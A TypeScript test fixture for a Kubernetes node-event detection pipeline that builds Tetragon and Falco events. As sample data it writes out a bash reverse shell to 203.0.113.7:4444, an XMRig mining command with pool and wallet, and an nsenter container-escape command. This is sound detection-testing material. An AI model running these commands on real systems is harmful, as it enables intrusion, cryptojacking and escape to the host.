import { type EventBatch } from '../../shared/ingestion/eventHubBatch';
import { falcoAlertEvent, processExecEvent } from '../../shared/node/exampleNodeEvents';
import { aksResourceId, auditBatch, type BatchOptions, INGEST_SUBSCRIPTION } from './auditMessages';

/**
 * Real-shaped node traffic for pipeline tests: raw Tetragon `GetEventsResponse` objects and falcosidekick
 * alerts (shared/node/exampleNodeEvents) with the `cluster_resource_id` the node webhook writes on every
 * event, packed as the webhook packs them (NDJSON) or sent as a sensor's exporter would (one event, an array).
 */

export const NODE_HUB = 'node-events';

/** The event as it reaches the hub: tagged with its cluster (AKS's upper-case resource id, as `aksResourceId`). */
export function onCluster(event: Record<string, unknown>, subscriptionId = INGEST_SUBSCRIPTION, cluster = 'aks-shop-prod'): Record<string, unknown> {
  return { ...event, cluster_resource_id: aksResourceId(subscriptionId, cluster) };
}

/** Events as one NDJSON body, one event per line (what the node webhook sends to the hub). */
export function ndjson(events: readonly Record<string, unknown>[]): string {
  return events.map((event) => JSON.stringify(event)).join('\n');
}

/** A batch of the node-events hub with consecutive positions of one partition. */
export function nodeBatch(bodies: readonly unknown[], options: BatchOptions = {}): EventBatch {
  return auditBatch(bodies, { eventHubName: NODE_HUB, ...options });
}

/** An RFC 3339 time with nanoseconds, as Tetragon writes it, on 2026-11-22 at 10:mm:ss. */
export function nodeTime(minute: number, second = 0): string {
  return `2026-11-22T10:${String(minute).padStart(2, '0')}:${String(second).padStart(2, '0')}.318624117Z`;
}

/** An interactive bash whose stdin and stdout are a TCP connection: a reverse shell, from a web pod. */
export function reverseShellEvent(time: string, execId = `rev-${time}`): Record<string, unknown> {
  return processExecEvent({
    binary: '/bin/bash',
    arguments: "-c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
    execId,
    time,
    parent: { binary: '/usr/sbin/nginx', arguments: '-g "daemon off;"' },
  });
}

/** XMRig started in a pod against a mining pool. */
export function minerEvent(time: string, execId = `miner-${time}`): Record<string, unknown> {
  return processExecEvent({
    binary: '/tmp/xmrig',
    arguments: '-o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --coin monero',
    execId,
    time,
    parent: { binary: '/bin/sh', arguments: '-c /tmp/xmrig' },
  });
}

/** `nsenter -t 1` from a container: entering the host's namespaces (container escape). */
export function nsenterEvent(time: string, execId = `nsenter-${time}`): Record<string, unknown> {
  return processExecEvent({
    binary: '/usr/bin/nsenter',
    arguments: '-t 1 -m -u -i -n -p -- /bin/bash',
    execId,
    time,
    pod: { namespace: 'shop', name: 'debug-7c9d8f6b5-q4w2e', container: 'debug', image: 'docker.io/library/ubuntu:24.04', workload: 'debug' },
    parent: { binary: '/bin/bash', pod: { namespace: 'shop', name: 'debug-7c9d8f6b5-q4w2e', container: 'debug', image: 'docker.io/library/ubuntu:24.04', workload: 'debug' } },
  });
}

/** A routine process start that raises nothing: nginx's worker reload. */
export function benignExecEvent(time: string, execId = `benign-${time}`): Record<string, unknown> {
  return processExecEvent({ binary: '/usr/sbin/nginx', arguments: '-s reload', execId, time, parent: { binary: '/usr/sbin/nginx', arguments: '-g "daemon off;"' } });
}

/** A Falco alert of a rule Falco ships (`Terminal shell in container`), as falcosidekick posts it. */
export function falcoShellAlert(time: string): Record<string, unknown> {
  return falcoAlertEvent({
    rule: 'Terminal shell in container',
    priority: 'Notice',
    time,
    output: `${time.slice(0, 19)}: Notice A shell was spawned in a container with an attached terminal (user=root container=web shell=bash)`,
    outputFields: {
      'container.id': '551e16a2c5b9',
      'container.image.repository': 'docker.io/library/nginx',
      'k8s.ns.name': 'shop',
      'k8s.pod.name': 'web-7d4b9c6f5-x2x9k',
      'proc.cmdline': 'bash',
      'proc.exepath': '/bin/bash',
      'proc.name': 'bash',
      'proc.pname': 'runc',
      'user.name': 'root',
    },
    tags: ['T1059', 'container', 'mitre_execution', 'shell'],
    hostname: 'aks-nodepool1-12345678-vmss000000',
  });
}
